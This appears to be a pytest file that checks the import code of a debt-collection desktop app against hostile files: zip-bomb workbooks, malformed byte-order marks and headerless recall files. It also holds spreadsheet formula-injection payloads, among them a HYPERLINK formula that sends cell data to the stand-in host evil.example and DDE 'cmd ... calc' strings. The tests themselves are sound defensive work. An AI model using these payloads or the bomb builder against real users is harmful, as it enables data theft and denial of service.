"""Placement and recall files from someone who means harm, or from a careless client: a zip bomb posing as a
workbook, cells a spreadsheet would run as formulas, broken byte-order marks and bad bytes, a recall file without a
header. Each is refused clearly (or read as meant) without taking the workstation down."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import subprocess
import sys
import zipfile
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
import sqlalchemy as sa

from ccs_desktop import cli, db
from ccs_desktop.models import Account
from ccs_desktop.models.enums import AccountStatus, Role
from ccs_desktop.services.context import SYSTEM
from ccs_desktop.services.placement import files, imports, recall
from ccs_desktop.services.placement.errors import ImportFileError, write_errors_csv
from tests.factories import make_client, make_user

ROOT = Path(__file__).resolve().parents[2]
TODAY = dt.date(2026, 11, 23)
SHEET = "xl/worksheets/sheet1.xml"


@pytest.fixture
def setup(session_factory):
    with session_factory() as s, s.begin():
        client = make_client(s, code="NWB", name="Northwind Bank")
        make_user(s, Role.COLLECTOR, username="cole")
    return session_factory, client.id


def _workbook(rows: list[list[object]]) -> bytes:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _stream(dst: zipfile.ZipFile, name: str, head: bytes, chunk: bytes, times: int, tail: bytes) -> None:
    info = zipfile.ZipInfo(name)
    info.compress_type = zipfile.ZIP_DEFLATED
    with dst.open(info, "w", force_zip64=True) as part:
        part.write(head)
        for _ in range(times):
            part.write(chunk)
        part.write(tail)


def _repacked(xlsx: bytes, replace: dict[str, object], extra: int = 0) -> bytes:
    """The workbook's parts again, some replaced: bytes, or (chunk, times) written streaming so that nothing large is
    held in memory; `extra` empty parts added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(xlsx)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            given = replace.get(info.filename)
            if given is None:
                dst.writestr(info.filename, src.read(info.filename))
            elif isinstance(given, bytes):
                dst.writestr(info.filename, given)
            else:
                _stream(dst, info.filename, *given)
        for name in set(replace) - set(src.namelist()):
            _stream(dst, name, *replace[name])
        for i in range(extra):
            dst.writestr(f"xl/media/part{i}.bin", b"")
    return out.getvalue()


_CHILD = r"""
import sys, time
try:
    import resource
    resource.setrlimit(resource.RLIMIT_AS, (int(sys.argv[2]), int(sys.argv[2])))
except (ImportError, ValueError, OSError):
    resource = None
from ccs_desktop.services.placement import files
from ccs_desktop.services.placement.errors import ImportFileError

started = time.perf_counter()
try:
    files.read_table(open(sys.argv[1], "rb").read(), "placement.xlsx")
    print("read")
except ImportFileError as exc:
    print("refused:", exc)
except MemoryError:
    print("out of memory")
print("seconds:", round(time.perf_counter() - started, 2))
try:  # this process's own peak (getrusage would also count the test process it was forked from)
    with open("/proc/self/status") as status:
        print("peak MB:", next(int(l.split()[1]) for l in status if l.startswith("VmHWM:")) // 1024)
except (OSError, StopIteration):
    pass
"""


def _read_in_a_child(tmp_path, data: bytes) -> tuple[str, float, int | None]:
    """Read the file in a process of its own, held to 1.5 GB of address space and 60 seconds, so that a reader
    that falls for the bomb fails this test instead of taking the machine down."""
    path = tmp_path / "placement.xlsx"
    path.write_bytes(data)
    done = subprocess.run([sys.executable, "-c", _CHILD, str(path), str(1536 << 20)], capture_output=True, text=True,
                          timeout=60, cwd=ROOT)
    assert done.returncode == 0, done.stderr[-2000:]
    out = dict(line.split(": ", 1) for line in done.stdout.strip().splitlines() if ": " in line)
    peak = out.get("peak MB")
    return out.get("refused", done.stdout), float(out["seconds"]), int(peak) if peak else None


# --- a zip bomb posing as a workbook ----------------------------------------------------------------------------


def test_a_zip_bomb_workbook_is_refused_before_it_is_unpacked(tmp_path):
    # 256 MB of shared strings in a file of a few hundred kilobytes: openpyxl would hold them all in memory.
    base = _workbook([["Account Number", "Last Name", "Principal"], ["A-1", "Doe", 10]])
    with zipfile.ZipFile(io.BytesIO(base)) as z:
        types, rels = z.read("[Content_Types].xml"), z.read("xl/_rels/workbook.xml.rels")
    types = types.replace(b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.'
                                       b'openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
    rels = rels.replace(b"</Relationships>", b'<Relationship Id="rIdS" Type="http://schemas.openxmlformats.org/'
                                             b'officeDocument/2006/relationships/sharedStrings" '
                                             b'Target="sharedStrings.xml"/></Relationships>')
    head = (b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
            b'2006/main" count="1" uniqueCount="1"><si><t>')
    bomb = _repacked(base, {"[Content_Types].xml": types, "xl/_rels/workbook.xml.rels": rels,
                            "xl/sharedStrings.xml": (head, b"A" * (1 << 20), 256, b"</t></si></sst>")})
    assert len(bomb) < 2_000_000
    error, seconds, peak = _read_in_a_child(tmp_path, bomb)
    assert "xl/sharedStrings.xml" in error and "compressed" in error and "to 1" in error, error
    assert seconds < 5 and (peak is None or peak < 300)


def test_a_bomb_in_the_worksheet_itself_is_refused_too(tmp_path):
    base = _workbook([["Account Number", "Last Name", "Principal"], ["A-1", "Doe", 10]])
    head = (b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
            b'spreadsheetml/2006/main"><sheetData>')
    bomb = _repacked(base, {SHEET: (head, b"<row/>" * 100_000, 200, b"</sheetData></worksheet>")})
    error, seconds, peak = _read_in_a_child(tmp_path, bomb)
    assert SHEET in error and seconds < 5 and (peak is None or peak < 300), error


def test_a_workbook_of_thousands_of_parts_is_refused(tmp_path):
    base = _workbook([["Account Number", "Last Name", "Principal"], ["A-1", "Doe", 10]])
    error, seconds, _peak = _read_in_a_child(tmp_path, _repacked(base, {}, extra=20_000))
    assert "parts" in error and seconds < 5, error


def test_a_workbook_that_would_unpack_past_the_limit_is_refused(monkeypatch):
    # Parts that compress no better than an ordinary workbook, but too much of them: refused by their total size.
    monkeypatch.setattr(files, "XLSX_MAX_UNPACKED", 1 << 20, raising=False)
    rows = [["Account Number", "Last Name", "Principal"]] + [[f"A-{i}", f"Doe{i * 7919 % 10007}", i] for i in range(30_000)]
    with pytest.raises(ImportFileError, match=r"unpack.*MB"):
        files.read_table(_workbook(rows), "placement.xlsx")


def test_an_ordinary_workbook_still_reads():
    rows = [["Account Number", "Last Name", "Principal"]] + [[f"A-{i}", "Doe", 10] for i in range(5000)]
    table = files.read_table(_workbook(rows), "placement.xlsx")
    assert table.headers == ["Account Number", "Last Name", "Principal"] and len(table.rows) == 5000


# --- cells a spreadsheet would run -------------------------------------------------------------------------------


def test_rejected_cells_a_spreadsheet_would_run_are_written_as_text(setup, tmp_path):
    factory, _client = setup
    attacks = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")": "Email", "+1+cmd|' /C calc'!A0": "Cell Phone",
               "-2+3": "Principal", "@SUM(1+1)*cmd|' /C calc'!A0": "Email", "\t=1+1": "Email", "\r=1+1": "Email"}
    out = io.StringIO()
    w = csv.writer(out)
    w.writerow(["Account Number", "Last Name", "Principal", "Cell Phone", "Email", "=cmd|' /C calc'!A0"])
    for i, (value, column) in enumerate(attacks.items()):
        row = {"Account Number": f"A-{i}", "Last Name": "Doe", "Principal": "10.00", "Cell Phone": "", "Email": ""}
        row[column] = value
        w.writerow([*row.values(), ""])
    result = imports.import_file(factory, SYSTEM, "NWB", out.getvalue().encode(), today=TODAY)
    assert result.rejected == len(attacks)
    path = tmp_path / "rejected.csv"
    write_errors_csv(result.errors, path)
    with path.open(encoding="utf-8", newline="") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    written = {c[1:] for c in cells if c.startswith("'")}
    assert {v.strip() for v in attacks} <= written  # every value is still there (as the checker read it), as text


def test_safe_cell_neutralises_text_only():
    from ccs_desktop.services.exports import safe_cell

    assert safe_cell("=1+1") == "'=1+1" and safe_cell("@x") == "'@x" and safe_cell("-1+2") == "'-1+2"
    assert safe_cell("\t=1") == "'\t=1" and safe_cell("\r=1").startswith("'")
    assert safe_cell("Doe") == "Doe" and safe_cell("") == ""
    assert safe_cell("\x01=1+1\x1f") == "'=1+1"  # characters XLSX cannot hold go, and what is left is checked
    for value in (-12, Decimal("-5.00"), -1.5, dt.date(2026, 1, 2), dt.datetime(2026, 1, 2, 3, 4), None, True):
        assert safe_cell(value) == value and type(safe_cell(value)) is type(value)


# --- byte-order marks and bad bytes ------------------------------------------------------------------------------

HEAD = "Account Number,Last Name,Principal\r\n"


def _refusal(data: bytes, encoding: str = "utf-8") -> str:
    with pytest.raises(ImportFileError) as refused:
        files.read_table(data, "placement.csv", encoding=encoding)
    return str(refused.value)


def _named(message: str) -> tuple[int, int, int]:
    m = re.search(r"byte 0x([0-9A-F]{2}) on line (\d+) \(byte offset (\d+)\)", message)
    assert m, message
    return int(m.group(1), 16), int(m.group(2)), int(m.group(3))


def test_a_bad_byte_after_a_utf8_byte_order_mark_is_named_at_its_own_offset_and_line():
    data = b"\xef\xbb\xbf" + (HEAD + "A-1,Doe,10.00\r\nA-2,Caf").encode() + b"\xe9" + b",12.00\r\n"
    byte, line, offset = _named(_refusal(data))
    assert (byte, line, offset) == (0xE9, 3, data.index(b"\xe9"))


def test_a_broken_utf8_byte_order_mark_is_named():
    data = b"\xef\xbb" + (HEAD + "A-1,Doe,10.00\r\n").encode()
    message = _refusal(data)
    assert _named(message) == (0xEF, 1, 0) and "byte-order mark" in message


def test_a_utf16_byte_order_mark_on_text_that_is_not_utf16_is_named():
    data = b"\xff\xfe" + (HEAD + "A-1,Doe,10.00\r\n").encode()
    message = _refusal(data)
    assert "byte-order mark" in message and "UTF-16" in message and "byte offset 0" in message


def test_a_bad_utf16_unit_is_named_at_its_own_offset_and_line():
    # "Ċ" (U+010A) is written 0A 01: a 0x0A byte that is not a line break.
    text = HEAD + "A-1,Ċ,10.00\r\nA-2,Doe,"
    data = "\ufeff".encode("utf-16-le") + text.encode("utf-16-le") + b"\x00\xdc" + "1.00\r\n".encode("utf-16-le")
    byte, line, offset = _named(_refusal(data))
    assert (line, offset) == (3, data.index(b"\x00\xdc")) and byte == 0x00


# --- a recall file without a header ------------------------------------------------------------------------------


def _placed(factory, numbers: list[str]) -> None:
    rows = ["Account Number,Last Name,Principal"] + [f"{n},Doe,10.00" for n in numbers]
    result = imports.import_file(factory, SYSTEM, "NWB", ("\n".join(rows) + "\n").encode(), today=TODAY)
    assert result.imported == len(numbers)


def _statuses(factory) -> dict[str, AccountStatus]:
    with factory() as s:
        return dict(s.execute(sa.select(Account.client_account_number, Account.status)).all())


def test_a_recall_file_of_bare_account_numbers_recalls_every_one(setup):
    factory, _client = setup
    _placed(factory, ["NWB-0001", "NWB-0002", "NWB-0003", "NWB-0004"])
    result = recall.recall_file(factory, SYSTEM, "NWB", b"NWB-0001\nNWB-0002\nNWB-0003\n", file_name="recall.csv")
    assert result.committed and result.recalled == 3 and result.data_rows == 3 and not result.errors
    assert _statuses(factory) == {"NWB-0001": AccountStatus.RECALLED, "NWB-0002": AccountStatus.RECALLED,
                                  "NWB-0003": AccountStatus.RECALLED, "NWB-0004": AccountStatus.OPEN}
    # One bare number: recalled too (a header with no accounts under it would be an error).
    assert recall.recall_file(factory, SYSTEM, "NWB", b"NWB-0004\n", file_name="one.csv").recalled == 1


def test_a_recall_file_with_a_header_still_skips_it(setup):
    factory, _client = setup
    _placed(factory, ["NWB-0001", "NWB-0002"])
    for header in ("Account Number", "Accounts to recall"):
        data = f"{header}\nNWB-0001\nNWB-0002\n".encode()
        result = recall.recall_file(factory, SYSTEM, "NWB", data, file_name="recall.csv", mode="all_or_nothing")
        assert result.data_rows == 2 and result.recalled == 2, header
        assert set(_statuses(factory).values()) == {AccountStatus.RECALLED}
        with factory() as s, s.begin():
            s.execute(sa.update(Account).values(status=AccountStatus.OPEN))


def test_the_command_line_recalls_every_account_of_a_headerless_file(sqlite_url, tmp_path, capsys):
    engine = db.make_engine(sqlite_url)
    factory = db.session_factory(engine)
    try:
        with factory() as s, s.begin():
            make_client(s, code="NWB", name="Northwind Bank")
        _placed(factory, ["NWB-0001", "NWB-0002", "NWB-0003"])
        path = tmp_path / "recall.txt"
        path.write_text("NWB-0001\nNWB-0002\nNWB-0003\n")
        assert cli.main(["--database", sqlite_url, "recall", str(path), "--client", "NWB"]) == 0
        assert "3 accounts recalled." in capsys.readouterr().out
        assert set(_statuses(factory).values()) == {AccountStatus.RECALLED}
    finally:
        engine.dispose()
